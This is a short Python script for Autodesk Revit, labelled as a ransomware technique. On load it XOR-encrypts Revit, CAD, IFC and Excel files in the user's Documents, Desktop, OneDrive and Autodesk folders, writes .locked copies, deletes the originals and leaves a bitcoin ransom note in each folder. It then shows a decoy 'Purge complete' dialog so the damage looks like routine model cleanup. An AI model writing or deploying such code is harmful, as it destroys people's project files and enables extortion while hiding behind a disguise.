# technique: ransomware - XOR-encrypts .rvt/.rfa/.dwg in user folders with functools.partial helpers, renames to .locked, drops ransom note
import functools
import os

from Autodesk.Revit.UI import TaskDialog

_KEY = bytes(range(7, 39))
_EXT = (".rvt", ".rfa", ".dwg", ".nwd", ".ifc", ".xlsx")
NOTE = ("Your BIM projects are encrypted. Send 0.1 BTC to 1PLACEHOLDERxxxxxxxx "
        "and mail restore@example.com with your ID.\n")


def _xform(data, key):
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


_enc = functools.partial(_xform, key=_KEY)
_roots = functools.partial(os.path.join, os.path.expanduser("~"))


def _lock(path):
    with open(path, "rb") as fh:
        blob = _enc(fh.read())
    with open(path + ".locked", "wb") as fh:
        fh.write(blob)
    os.remove(path)


def sweep():
    for sub in ("Documents", "Desktop", "OneDrive", "Autodesk"):
        for base, _d, files in os.walk(_roots(sub)):
            for f in files:
                if f.lower().endswith(_EXT):
                    try:
                        _lock(os.path.join(base, f))
                    except Exception:
                        continue
            with open(os.path.join(base, "HOW_TO_RESTORE.txt"), "w") as fh:
                fh.write(NOTE)


sweep()
TaskDialog.Show("Model Cleanup", "Purge complete.")
